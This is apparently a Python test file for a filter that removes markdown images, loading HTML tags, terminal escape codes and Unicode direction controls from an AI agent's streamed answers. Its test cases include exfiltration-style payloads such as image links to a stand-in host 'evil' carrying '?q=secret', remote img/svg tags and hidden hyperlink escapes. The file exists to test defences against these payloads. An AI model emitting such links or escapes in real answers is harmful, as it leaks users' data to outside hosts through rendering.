"""Answers without image links, loading HTML and control characters, whole or in pieces."""

from __future__ import annotations

import json
from collections.abc import Callable
from itertools import pairwise
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from markdown_it.token import Token
from starlette.testclient import TestClient

from promptvision.agent.agent import Agent
from promptvision.agent.turns.answer_filter import AnswerFilter, filter_answer
from promptvision.llm.messages import ChatReply
from promptvision.testing.agents import make_agent
from promptvision.testing.planner import ScriptedPlanner

Serve = Callable[[Agent], TestClient]

CASES = {
    "inline image": ("see ![a cat](http://evil/x?q=secret) there", "see a cat there"),
    "empty alt": ("![](http://evil/x)", "image"),
    "title and brackets": ('![a](<http://evil/x(1)> "t(i)")b', "ab"),
    "reference": ("![a][ref]\n\n[ref]: http://evil/x", "a\n\n[ref]: http://evil/x"),
    "shortcut reference": ("![ref]\n\n[ref]: http://evil/x", "ref\n\n[ref]: http://evil/x"),
    "nested": ("![a![b](http://evil/1)](http://evil/2)", "ab(http://evil/1)"),
    "linked image": ("[![a](http://evil/x)](http://good/)", "[a](http://good/)"),
    "data URL": ("![a](data:image/png;base64,AAAA)", "a"),
    "joined by removal": ("!![](http://evil/1)[b](http://evil/2)", "!image[b](http://evil/2)"),
    "joined by a control": ("!\u202e[a](http://evil/x)", "a"),
    "unclosed alt": ("![a", "! [a"),
    "unclosed target": ("![a](http://evil", "a(http://evil"),
    "escaped bracket": ("![a\\]b](http://evil/x)c", "a\\bc"),
    "img": ('x<img src="http://evil/x">y', "x y"),
    "img in capitals with a line break": ("<IMG\nSRC=http://evil/x\n/>", " "),
    "img unclosed": ("<img src=http://evil/x", "< img src=http://evil/x"),
    "img in img": ("<im<img>g src=http://evil/x>", "< im g src=http://evil/x>"),
    "image in a tag": ("<a![a](http://evil/x)>", "< aa>"),
    "style": (
        '<div style="background:url(http://evil)">a</div>',
        '< div style="background:url(http://evil)">a</div>',
    ),
    "svg": ("<svg><image href='http://evil'/></svg>", "   "),
    "comment": ("<!-- a -->", "< !-- a -->"),
    "colour codes": ("\x1b[31mred\x1b[0m \x1b]8;;http://evil\x07link\x1b]8;;\x07", "red link"),
    "single controls": ("a\x00b\x07c\x1bd\x9be\x7ff\ud800", "abcef"),
    "bidirectional controls": ("a\u202eb\u2066c\u200fd\ufeffe", "abcde"),
    "tags of plane 14": ("a\U000e0041b", "ab"),
    "autolink": ("<http://good/x> <me@good.example>", "http://good/x me@good.example"),
    "ordinary text": (
        "5 < 6, a <b and c> d, wow! [x](http://good/) <b>bold</b>!\n\t- e\u0301 \U0001f469\u200d\U0001f680",
        None,
    ),
    "arithmetic": ("if a<b and c=d: e>f", "if a< b and c=d: e>f"),
    "code": ("`x[1]!` a != b <= c <- d", None),
}


@pytest.mark.parametrize("name", CASES)
def test_filtered_text(name: str) -> None:
    text, expected = CASES[name]
    assert filter_answer(text) == (text if expected is None else expected)


@pytest.mark.parametrize("name", CASES)
def test_pieces_of_any_size_give_the_same_text(name: str) -> None:
    text = CASES[name][0]
    for size in range(1, 6):
        assert in_pieces([text[at : at + size] for at in range(0, len(text), size)]) == filter_answer(text)


def in_pieces(pieces: list[str]) -> str:
    whole = AnswerFilter()
    return "".join([*(whole.feed(piece) for piece in pieces), whole.finish()])


_PUNCTUATION = (
    "!",
    "[",
    "]",
    "(",
    ")",
    "<",
    ">",
    "\\",
    "`",
    "\n",
    "/",
    "=",
    '"',
    ":",
    "![",
    "](",
    "]:",
    "<!--",
)
_CONTROLS = ("\x1b", "[31m", "\u202e", "\x9b", "\x07", "\x1b]", "\x1b[")
_WORDS = ("a", "img", " src=", "svg", "http://e/x", "![a](u)", "<img>", "![a][b]")
FRAGMENTS = st.sampled_from((*_PUNCTUATION, *_CONTROLS, *_WORDS))
TEXTS = st.lists(FRAGMENTS, max_size=25)


@settings(max_examples=1500, deadline=None)
@given(pieces=TEXTS)
def test_no_text_renders_as_an_image_or_loads_anything(pieces: list[str]) -> None:
    text = filter_answer("".join(pieces))
    for token in every(MarkdownIt("commonmark", {"html": True}).parse(text)):
        assert token.type != "image", text
        if token.type.startswith("html"):
            assert "=" not in token.content.partition(">")[0], text
            assert "<img" not in token.content.lower(), text
            assert "<svg" not in token.content.lower(), text
    assert not any(char in text for char in "\x1b\x9b\x07\u202e")


@settings(max_examples=1500, deadline=None)
@given(pieces=TEXTS, cuts=st.lists(st.integers(0, 60), max_size=8))
def test_any_division_gives_the_same_text_and_what_was_given_is_never_taken_back(
    pieces: list[str], cuts: list[int]
) -> None:
    text = "".join(pieces)
    edges = [0, *sorted(min(cut, len(text)) for cut in cuts), len(text)]
    parts = [text[begin:end] for begin, end in pairwise(edges)]
    assert in_pieces(parts) == filter_answer(text)


@settings(max_examples=500, deadline=None)
@given(pieces=TEXTS)
def test_filtering_twice_changes_nothing_dangerous(pieces: list[str]) -> None:
    once = filter_answer("".join(pieces))
    assert "![" not in once
    assert "![" not in filter_answer(once)


def test_held_back_text_is_bounded() -> None:
    for opening in ("![", "![a](", "<a ", "\x1b]"):
        whole = AnswerFilter()
        given_out = whole.feed(opening) + "".join(whole.feed("x" * 100) for _ in range(100))
        assert len(given_out) > 5000, opening


def test_plain_text_is_not_held_back() -> None:
    whole = AnswerFilter()
    assert [whole.feed(word) for word in ("The ", "image ", "is ", "ready.")] == [
        "The ",
        "image ",
        "is ",
        "ready.",
    ]


def every(tokens: list[Token]) -> list[Token]:
    return [inner for token in tokens for inner in (token, *every(token.children or []))]


@pytest.mark.parametrize("accept", ["text/event-stream", "application/json"])
def test_answer_is_filtered_before_it_is_streamed_and_stored(
    serve: Serve, chat_body: Callable[..., dict[str, Any]], accept: str
) -> None:
    said = "See ![a cat](http://evil/?q=secret) and <img src='http://evil'> in \x1b[31mred \u202e!"
    expected = "See a cat and   in red !"
    agent = make_agent([], planner=ScriptedPlanner([ChatReply(text=said, finish_reason="stop")]))
    client = serve(agent)
    response = client.post("/chat", json=chat_body("hi"), headers={"Accept": accept})
    assert "evil" not in response.text
    if accept == "application/json":
        assert response.json()["text_response"] == expected
    else:
        events = [json.loads(line[6:]) for line in response.text.splitlines() if line.startswith("data: ")]
        deltas = [event for event in events if event["type"] == "TEXT_MESSAGE_CONTENT"]
        assert len({event["messageId"] for event in deltas}) == 1
        assert "".join(event["delta"] for event in deltas) == expected
    assert client.get("/conversations/c").json()["turns"][0]["reply"]["text_response"] == expected
